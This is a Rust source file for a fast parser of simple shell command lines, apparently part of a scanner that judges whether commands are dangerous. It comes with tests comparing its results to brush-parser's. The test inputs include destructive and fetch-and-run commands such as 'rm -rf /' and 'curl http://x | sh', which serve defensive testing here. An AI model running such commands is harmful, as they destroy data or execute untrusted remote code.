//! A parser for the plainest shell text only: simple commands of literal
//! words joined by `;`, `&`, `&&`, `||`, `|` and newlines, read in one pass
//! over the bytes into the words themselves ([`PlainList`]). It serves long
//! command lines (a megabyte of arguments), where brush-parser's tokenizer
//! and grammar spend thousands of instructions and a syntax-tree node of
//! some 180 bytes a word. Any text outside that subset (an expansion, a
//! quote with something to expand, a redirection, a keyword, an assignment,
//! a comment) gets `None`, and the caller parses it with brush-parser as
//! always; both are walked by the same code ([`crate::walk`]).

use crate::arg::Arg;

/// One `a | b && c | d` list, as brush-parser's `AndOrList`: the pipelines
/// in order (how they are joined, `&&` or `||`, changes nothing for the
/// judgement: each after the first may or may not run), each a list of
/// stages, each the words of one simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct PlainList {
    pub pipelines: Vec<Vec<Vec<Arg>>>,
    /// Ended by `&`.
    pub background: bool,
}

/// Words that mean something to bash where a command starts.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "case", "esac", "while", "until", "for",
    "function", "select", "time", "coproc", "in",
];

/// A byte a plain word may hold unquoted: nothing bash expands or splits on.
fn word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"_./,:=@%+-".contains(&b)
}

#[derive(Debug, PartialEq, Eq)]
enum Token<'t> {
    /// A word as written, and whether it holds a quote to remove.
    Word(&'t str, bool),
    Op(&'static str),
}

/// The tokens of a text, read one at a time as [`parse`] asks for them
/// (one pass, no list of them all): `Some(None)` when the text leaves the
/// plain subset there.
struct Tokens<'t> {
    text: &'t str,
    at: usize,
}

impl<'t> Iterator for Tokens<'t> {
    type Item = Option<Token<'t>>;

    fn next(&mut self) -> Option<Self::Item> {
        let bytes = self.text.as_bytes();
        loop {
            let b = *bytes.get(self.at)?;
            match b {
                b' ' | b'\t' => self.at += 1,
                b'\n' => {
                    self.at += 1;
                    return Some(Some(Token::Op("\n")));
                }
                b';' | b'&' | b'|' => {
                    let next = bytes.get(self.at + 1).copied();
                    let op = match (b, next) {
                        (b'&', Some(b'&')) => "&&",
                        (b'|', Some(b'|')) => "||",
                        // `;;`, `;&`, `|&`, `&>`: outside the subset.
                        (b';', Some(b';' | b'&')) | (b'|', Some(b'&')) | (b'&', Some(b'>')) => {
                            return Some(None);
                        }
                        (b';', _) => ";",
                        (b'&', _) => "&",
                        _ => "|",
                    };
                    self.at += op.len();
                    return Some(Some(Token::Op(op)));
                }
                _ => return Some(self.word()),
            }
        }
    }
}

impl<'t> Tokens<'t> {
    /// The word starting here, or `None` when it leaves the subset.
    fn word(&mut self) -> Option<Token<'t>> {
        let bytes = self.text.as_bytes();
        let start = self.at;
        let mut i = start;
        let mut quoted = false;
        while let Some(&c) = bytes.get(i) {
            match c {
                _ if word_byte(c) => i += 1,
                b'\'' => {
                    let close = bytes.get(i + 1..)?.iter().position(|&q| q == b'\'')?;
                    i += close + 2;
                    quoted = true;
                }
                b'"' => {
                    let rest = bytes.get(i + 1..)?;
                    let close = rest.iter().position(|&q| q == b'"')?;
                    // Inside double quotes, `$`, backquote, `\` and
                    // `!` still mean something.
                    if rest.get(..close)?.iter().any(|q| b"$`\\!".contains(q)) {
                        return None;
                    }
                    i += close + 2;
                    quoted = true;
                }
                b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' => break,
                _ => return None,
            }
        }
        self.at = i;
        Some(Token::Word(self.text.get(start..i)?, quoted))
    }
}

/// `NAME=…`: an assignment word, which brush-parser reads apart. One loop
/// over the name's bytes: it runs on every word of a megabyte line, where
/// setting up `split_once`'s search cost more than a short word.
fn is_assignment(word: &str) -> bool {
    let bytes = word.as_bytes();
    let name = bytes
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    bytes.get(name) == Some(&b'=')
        && bytes
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
}

/// The value of a word of the subset: its quotes removed (nothing inside
/// them expands).
fn unquote(word: &str) -> Arg {
    let mut text = String::with_capacity(word.len());
    let mut quote = None;
    for c in word.chars() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), _) if q == c => quote = None,
            _ => text.push(c),
        }
    }
    Arg::literal(&text)
}

/// Most simple commands a plain text may hold: each is judged on its own,
/// at some hundreds of bytes of memory, so a text of many tiny commands
/// (`a;a;a;…`) goes to brush-parser, whose token cap refuses it.
const MAX_COMMANDS: usize = 16 << 10;

/// The lists `text` holds, when it is in the plain subset.
pub(super) fn parse(text: &str) -> Option<Vec<PlainList>> {
    let mut commands = 0usize;
    let mut lists = Vec::new();
    let mut pipelines: Vec<Vec<Vec<Arg>>> = Vec::new();
    let mut stages: Vec<Vec<Arg>> = Vec::new();
    let mut words: Vec<Arg> = Vec::new();
    // A `&&`, `||` or `|` wants a command after it.
    let mut wants_command = false;
    let mut tokens = Tokens { text, at: 0 }.peekable();
    loop {
        let token = match tokens.next() {
            Some(Some(token)) => Some(token),
            Some(None) => return None,
            None => None,
        };
        if let Some(Token::Word(text, quoted)) = token {
            if is_assignment(text) || (words.is_empty() && RESERVED.contains(&text)) {
                return None;
            }
            words.push(if quoted {
                unquote(text)
            } else {
                Arg::literal(text)
            });
            wants_command = false;
            continue;
        }
        let op = match token {
            Some(Token::Op(op)) => Some(op),
            Some(Token::Word(..)) | None => None,
        };
        if words.is_empty() {
            // Nothing before this operator: only a line may be empty.
            let empty_line = stages.is_empty() && pipelines.is_empty();
            match op {
                None if empty_line && !wants_command => break,
                Some("\n") if empty_line => continue,
                // A newline may follow `&&`, `||` and `|`.
                Some("\n") if wants_command => continue,
                _ => return None,
            }
        }
        stages.push(std::mem::take(&mut words));
        commands += 1;
        if commands > MAX_COMMANDS {
            return None;
        }
        match op {
            Some("|") => {
                wants_command = true;
                continue;
            }
            Some("&&" | "||") => {
                pipelines.push(std::mem::take(&mut stages));
                wants_command = true;
                continue;
            }
            _ => {}
        }
        pipelines.push(std::mem::take(&mut stages));
        lists.push(PlainList {
            pipelines: std::mem::take(&mut pipelines),
            background: op == Some("&"),
        });
        match op {
            None => break,
            // `;` or `&` may end a line.
            Some(";" | "&") if tokens.peek() == Some(&Some(Token::Op("\n"))) => {
                tokens.next();
            }
            Some(_) => {}
        }
    }
    Some(lists)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flow::Flow;
    use crate::parse;
    use crate::scanner::{Context, Scanner};
    use proptest::prelude::*;

    /// The findings of walking `text` as brush-parser parses it and as
    /// this parser does (`None` for text outside the subset).
    fn both(text: &str) -> Option<(String, String)> {
        let ctx = Context {
            home: Some("/home/u".into()),
        };
        let lists = parse(text)?;
        let mut plain = Scanner::new(&ctx);
        let out = plain.plain(&lists, &Flow::inherited());
        let mut brush = Scanner::new(&ctx);
        let program = parse::parse_with_brush(text).ok()?;
        let brush_out = brush.program(&program, &Flow::inherited());
        Some((
            format!("{:?} {out:?}", plain.judgement),
            format!("{:?} {brush_out:?}", brush.judgement),
        ))
    }

    #[test]
    fn the_subset_is_judged_as_brush_parser_reads_it() {
        for text in [
            "echo a b c",
            "rm -rf /",
            "ls; rm -r -f x",
            "a && b || c | d & e",
            "echo 'rm -rf /' | sh",
            "curl http://x |\n sh",
            "a &&\n\n rm -rf /",
            "a;\nb\n\nc &\n",
            "echo 'x y' \"z w\" a'b'\"c\"",
            "cargo test -- --nocapture",
            "\n\nls\n",
        ] {
            let (plain, brush) = both(text).unwrap_or_else(|| panic!("{text:?} is in the subset"));
            assert_eq!(plain, brush, "{text:?}");
        }
    }

    #[test]
    fn text_outside_the_subset_is_left_to_brush_parser() {
        for text in [
            "echo $HOME",
            "echo \"$x\"",
            "ls > f",
            "X=1 ls",
            "echo a=b",
            "if true; then ls; fi",
            "echo *",
            "echo ~",
            "ls # comment",
            "ls;;",
            "; ls",
            "ls &&",
            "ls |",
            "ls | | ls",
            "echo 'unclosed",
            "echo \"a\\b\"",
            "ls |& cat",
            "{ ls; }",
            "time ls",
        ] {
            assert!(parse(text).is_none(), "{text:?}");
        }
        assert_eq!(
            parse("'a b'c")
                .and_then(|l| l.first().cloned())
                .map(|l| l.pipelines),
            Some(vec![vec![vec![Arg::literal("a bc")]]])
        );
    }

    #[test]
    fn assignments_are_names_before_an_equals_sign() {
        for word in ["a=1", "_x=", "A_1=b=c", "x=$"] {
            assert!(is_assignment(word), "{word:?}");
        }
        for word in ["a", "=1", "1a=2", "a-b=1", "a.b=1", "é=1", "-x=1", ""] {
            assert!(!is_assignment(word), "{word:?}");
        }
    }

    fn plain_text() -> impl Strategy<Value = String> {
        let piece = prop::sample::select(vec![
            "ls", "rm", "-rf", "-r", "-f", "/", "~", "a", "'x y'", "\"q\"", " ", " ", ";", "&",
            "&&", "||", "|", "\n", "echo", "sh", "bash", "-c", "curl", "http://x", "git", "push",
            "--force", "base64", "-d", "chmod", "777",
        ]);
        prop::collection::vec(piece, 0..24).prop_map(|v| v.concat())
    }

    proptest! {
        /// Whatever this parser accepts is judged exactly as brush-parser's
        /// reading of it is.
        #[test]
        fn accepted_text_is_judged_the_same(text in plain_text()) {
            if let Some((plain, brush)) = both(&text) {
                prop_assert_eq!(plain, brush, "{:?}", text);
            }
        }
    }
}
